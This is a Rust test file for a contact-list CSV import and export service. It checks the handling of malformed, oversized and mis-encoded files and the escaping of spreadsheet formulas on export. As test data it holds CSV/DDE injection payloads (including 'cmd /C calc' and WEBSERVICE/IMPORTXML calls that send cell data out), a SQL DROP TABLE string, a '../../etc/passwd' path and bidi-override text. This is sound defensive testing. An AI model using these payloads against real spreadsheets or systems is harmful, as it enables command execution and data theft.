//! Files that nobody should send (specification 4.5 and 5): each is refused, or its bad records fail and the others load.

use super::*;

/// What becomes of a file.
#[derive(Debug, PartialEq)]
enum End {
    /// There is no job; a word of the reason.
    Refused(String),
    /// Contacts that came, and the codes of those that failed.
    Loaded(u64, Vec<String>),
}

fn refused(word: &str) -> End {
    End::Refused(word.to_owned())
}

fn loaded(created: u64, codes: &[&str]) -> End {
    End::Loaded(created, codes.iter().map(|code| (*code).to_owned()).collect())
}

impl World {
    async fn fed(&self, bytes: &[u8], profile: ImportProfile, wanted: &End) -> End {
        let path = self.folder.path().join("fed.csv");
        std::fs::write(&path, bytes).unwrap();
        let list = CallingList { columns: vec!["name".into(), "phone".into()], ..new_list("fed") };
        let list = self.service.create_list(list).await.unwrap().list.number;
        let new = NewJob::new("tester", profile, ListTarget::Number(list), FileSource::Path(path));
        let end = match self.service.create(new).await {
            Err(error) => {
                let text = error.to_string();
                assert!(!text.contains("secret"), "a cell in an error: {text}");
                match wanted {
                    End::Refused(word) if text.contains(word.as_str()) => End::Refused(word.clone()),
                    _ => End::Refused(text),
                }
            }
            Ok(job) => {
                let job = self.service.wait(&job.id).await.unwrap();
                assert_eq!(job.state, JobState::Completed, "{:?}", job.progress.failure);
                let mut outcome = csv::Reader::from_path(job.spec.outcome.unwrap()).unwrap();
                let rows = outcome.records().map(Result::unwrap);
                let codes = rows.filter(|row| &row[3] == "failed").map(|row| row[5].to_owned()).collect();
                End::Loaded(job.progress.counts.created, codes)
            }
        };
        let stored = self.contacts(Some(list)).await;
        for contact in stored {
            let texts = contact.contact.attributes.iter().map(|(_, value)| value.as_str());
            for text in texts.chain([contact.contact.id.as_str()]) {
                assert!(!text.contains(['\0', '\u{FFFD}']), "stored: {text:?}");
            }
        }
        self.service.delete_list(list).await.unwrap();
        end
    }
}

fn utf_16(text: &str) -> Vec<u8> {
    [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
}

#[tokio::test]
async fn files_that_nobody_should_send_are_refused_or_lose_their_bad_records() {
    let world = world();
    let head = "id,name,phone\n";
    let good = "g,good,+420777000001\n";
    let text = |rest: &str| format!("{head}{rest}{good}").into_bytes();
    let bytes = |rest: &[u8]| [head.as_bytes(), rest, b"\n", good.as_bytes()].concat();
    let end = |rest: &[u8]| [head.as_bytes(), good.as_bytes(), rest].concat();
    let mega = "x".repeat(10 << 20);
    let table: Vec<(&str, Vec<u8>, &str, End)> = vec![
        ("nothing", vec![], "auto", refused("header")),
        ("a mark", vec![0xEF, 0xBB, 0xBF], "auto", refused("header")),
        ("line ends", b"\n\r\n\r".to_vec(), "auto", refused("header")),
        ("a header", head.into(), "auto", loaded(0, &[])),
        ("a header without an end", b"id,name,phone".to_vec(), "auto", loaded(0, &[])),
        ("a header that is cut in a quote", b"id,\"name,phone".to_vec(), "auto", refused("header")),
        ("a name that is empty", b"id,,phone\n1,2,3\n".to_vec(), "auto", refused("column 2")),
        ("a name of blanks", b"id,  ,phone\n1,2,3\n".to_vec(), "auto", refused("column 2")),
        ("a name that is there twice", b"id,name,name,phone\n".to_vec(), "auto", refused("name")),
        ("a name that is there twice but for blanks", b"id,name, name ,phone\n".to_vec(), "auto", refused("name")),
        ("NUL in the header", b"id,na\0me,phone\n".to_vec(), "auto", refused("header")),
        ("no column that is known", b"a,b,c\n1,2,3\n".to_vec(), "auto", refused("\"id\"")),
        ("1,025 columns", vec![b','; 1_024], "auto", refused("1025 columns")),
        ("a million columns", vec![b','; 1 << 20], "auto", refused("header")),
        ("a header of 10 MB", mega.clone().into_bytes(), "auto", refused("header")),
        ("an archive", b"PK\x03\x04\x14\0\0\0\x08\0secret".to_vec(), "auto", refused("header")),
        ("NUL in a cell", text("1,a\0b,+420777000002\n"), "auto", loaded(1, &["nul-byte"])),
        ("NUL in an id", text("\0,ab,+420777000002\n"), "auto", loaded(1, &["nul-byte"])),
        ("a cell of 10 MB", text(&format!("1,{mega},+420777000002\n")), "auto", loaded(1, &["record-too-long"])),
        (
            "a phone of 10 MB",
            text(&format!("1,a,+{}\n", "4".repeat(10 << 20))),
            "auto",
            loaded(1, &["record-too-long"]),
        ),
        (
            "a quoted cell of 10 MB",
            text(&format!("1,\"{mega}\",+420777000002\n")),
            "auto",
            loaded(1, &["record-too-long"]),
        ),
        (
            "a cell above 64 KiB",
            text(&format!("1,{},+420777000002\n", &mega[..65_537])),
            "auto",
            loaded(1, &["field-too-long"]),
        ),
        ("a cell of 64 KiB", text(&format!("1,{},+420777000002\n", &mega[..65_536])), "auto", loaded(2, &[])),
        ("a million cells", text(&format!("{}\n", ",".repeat(2 << 20))), "auto", loaded(1, &["record-too-long"])),
        ("a hundred cells", text(&format!("{}\n", ",".repeat(99))), "auto", loaded(1, &["ragged"])),
        (
            "an id of 256 characters",
            text(&format!("{},a,+420777000002\n", &mega[..256])),
            "auto",
            loaded(1, &["too-long"]),
        ),
        ("a phone of 129 characters", text(&format!("1,a,+{}\n", "4".repeat(128))), "auto", loaded(1, &["bad-phone"])),
        ("bytes of no character", bytes(b"1,a\xFF\xFEb,+420777000002"), "utf-8", loaded(1, &["bad-encoding"])),
        ("overlong UTF-8", bytes(b"1,\xC0\xAE\xC0\xAE,+420777000002"), "utf-8", loaded(1, &["bad-encoding"])),
        ("a surrogate in UTF-8", bytes(b"1,\xED\xA0\x80,+420777000002"), "utf-8", loaded(1, &["bad-encoding"])),
        ("beyond Unicode", bytes(b"1,\xF4\x90\x80\x80,+420777000002"), "utf-8", loaded(1, &["bad-encoding"])),
        ("cut in a character", end(b"1,a\xC5"), "utf-8", loaded(1, &["bad-encoding"])),
        ("cut in a quoted cell", end(b"1,\"a,+420777000002"), "auto", loaded(1, &["unterminated-quote"])),
        ("cut behind a quote", end(b"1,a,\""), "auto", loaded(1, &["unterminated-quote"])),
        ("cut in a record", end(b"1,a"), "auto", loaded(1, &["ragged"])),
        (
            "a quote that opens in the first record",
            text("1,\"a,+420777000002\n"),
            "auto",
            loaded(0, &["unterminated-quote"]),
        ),
        (
            "UTF-16 that is cut in half a unit",
            [utf_16(&format!("{head}{good}")), vec![0x31]].concat(),
            "auto",
            loaded(1, &["bad-encoding"]),
        ),
        (
            "UTF-16 with half a pair",
            [utf_16(head), vec![0x31, 0, 0x2C, 0, 0x00, 0xD8, 0x2C, 0, 0x0A, 0]].concat(),
            "auto",
            loaded(0, &["bad-encoding"]),
        ),
        ("UTF-16 that is called UTF-8", utf_16(&format!("{head}{good}")), "utf-8", refused("mark")),
        ("an encoding of nobody", text(""), "utf-9", refused("utf-9")),
        ("an encoding with states", text(""), "iso-2022-jp", refused("ISO-2022-JP")),
        ("an encoding that hides ASCII", text(""), "utf-7", refused("utf-7")),
        ("windows-1252 in disguise", bytes(b"1,caf\xE9,+420777000002"), "auto", loaded(2, &[])),
        ("a mark in the middle", text("1,\u{FEFF}a,+420777000002\n"), "auto", loaded(2, &[])),
        (
            "a line end of every kind",
            b"id,name,phone\r1,a,+420777000002\r\n\r\n2,b,+420777000003\n\n\r".to_vec(),
            "auto",
            loaded(2, &[]),
        ),
        ("formulas", text("=1+1,\"=cmd|' /C calc'!A0\",+420777000002\n"), "auto", loaded(2, &[])),
        ("words of SQL", text("1');DROP TABLE contacts;--,x,+420777000002\n"), "auto", loaded(2, &[])),
        ("a path as an id", text("../../etc/passwd,x,+420777000002\n"), "auto", loaded(2, &[])),
        ("turned letters", text("\u{202E}1,\u{2066}x,+420777000002\n"), "auto", loaded(2, &[])),
    ];
    let mut others = Vec::new();
    for (name, bytes, encoding, wanted) in table {
        let profile = ImportProfile { encoding: encoding.into(), ..native() };
        let found = world.fed(&bytes, profile, &wanted).await;
        if found != wanted {
            others.push((name, found, wanted));
        }
    }
    assert!(others.is_empty(), "{others:#?}");
}

#[tokio::test]
async fn each_system_reads_what_its_documents_say_and_nothing_else() {
    let world = world();
    let head = "id,name,phone\n";
    let row = "1,caf\u{e9},+420777000002\n";
    let latin = [head.as_bytes(), b"1,caf\xE9,+420777000002\n"].concat();
    let semicolons = format!("{head}{row}").replace(',', ";").into_bytes();
    let wide = utf_16(&format!("{head}{row}"));
    let many = [head.trim_end(), &(4..=51).map(|n| format!(",c{n}")).collect::<String>(), "\n"].concat().into_bytes();
    let table = [
        (SourceKind::GenesysCloud, latin.clone(), loaded(0, &["bad-encoding"])),
        (SourceKind::GenesysCloud, semicolons.clone(), refused("\"id\"")),
        (SourceKind::GenesysCloud, wide.clone(), refused("mark")),
        (SourceKind::GenesysCloud, many, refused("51 columns, limit is 50")),
        (SourceKind::External, latin.clone(), loaded(0, &["bad-encoding"])),
        (SourceKind::External, wide.clone(), refused("mark")),
        (SourceKind::External, head.replace("id,name", "id,ID").into_bytes(), refused("twice")),
        (SourceKind::Ucs, latin.clone(), loaded(0, &["bad-encoding"])),
        (SourceKind::Ucs, wide.clone(), refused("mark")),
        (SourceKind::Native, latin, loaded(1, &[])),
        (SourceKind::Native, semicolons, loaded(1, &[])),
        (SourceKind::Native, wide, loaded(1, &[])),
    ];
    for (source, bytes, wanted) in table {
        let rules = crate::contact::preset::rules_of(source);
        let profile = ImportProfile { id_column: Some("id".into()), phone_required: false, ..rules };
        assert_eq!(world.fed(&bytes, profile, &wanted).await, wanted, "{source:?}");
    }
}

#[tokio::test]
async fn forty_formulas_are_marked_on_export_and_come_back_as_they_were() {
    let payloads = [
        "=1+1",
        "=1+1\"",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x.org\",\"x\")",
        "=WEBSERVICE(\"http://x.org\")",
        "=IMPORTXML(CONCAT(\"http://x.org?v=\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "==1",
        "= 1",
        "=",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+A1",
        "+(1)+A1",
        "+",
        "+\"x\"",
        "-1+A1",
        "-cmd|' /C calc'!A0",
        "-A1",
        "--A1",
        "-",
        "-x",
        "@SUM(1+1)",
        "@",
        "@x",
        "\t=1+1",
        "\tx",
        "\t",
        "\r=1+1",
        "\rx",
        "'=1+1",
        "''=1+1",
        "'+A1",
        "'@x",
        "'\t=1",
        "'",
        "''",
        "'x",
        "=1,2;3|4",
        "=\"a\nb\"",
        "+420777888777",
        "-5",
        "+1 (2) 3-4.5",
    ];
    assert!(payloads.len() >= 40);
    let world = world();
    let profile = || ImportProfile { phone_required: false, trim: false, ..native() };
    let quoted = |cell: &str| format!("\"{}\"", cell.replace('"', "\"\""));
    let mut text = "id,name,phone\n".to_owned();
    for (n, payload) in payloads.iter().enumerate() {
        text += &format!("{n},{},\n", quoted(payload));
    }
    let first = world.import(&world.file("1.csv", &text), profile(), named("F")).await;
    assert_eq!(first.progress.counts.created, payloads.len() as u64, "{:?}", first.progress);

    let row = world.service.list_by_name("F").await.unwrap();
    let path = world.folder.path().join("export.csv");
    world.service.export_to(Export::new(row.list.clone(), true), &path).await.unwrap();
    let mut read = csv::Reader::from_path(&path).unwrap();
    for row in read.records().map(Result::unwrap) {
        for cell in &row {
            let harmless = |cell: &str| cell.bytes().all(|byte| b"+-0123456789 ().".contains(&byte));
            let runs = cell.starts_with(['=', '@', '\t', '\r', '+', '-']);
            assert!(!runs || (cell.starts_with(['+', '-']) && harmless(cell)), "a spreadsheet would run {cell:?}");
        }
    }

    let back = ImportProfile {
        id_column: Some("inin-outbound-id".into()),
        callable_column: Some("ContactCallable".into()),
        from_export: true,
        ..profile()
    };
    let again = world.import(&path, back, named("F")).await;
    let all = payloads.len() as u64;
    assert_eq!((again.progress.counts.unchanged, again.progress.counts.records()), (all, all), "{:?}", again.progress);
    let stored = world.contacts(Some(row.list.number)).await;
    let values: Vec<_> = stored.iter().map(|it| it.contact.value("name").unwrap().to_owned()).collect();
    assert_eq!(values, payloads);
}
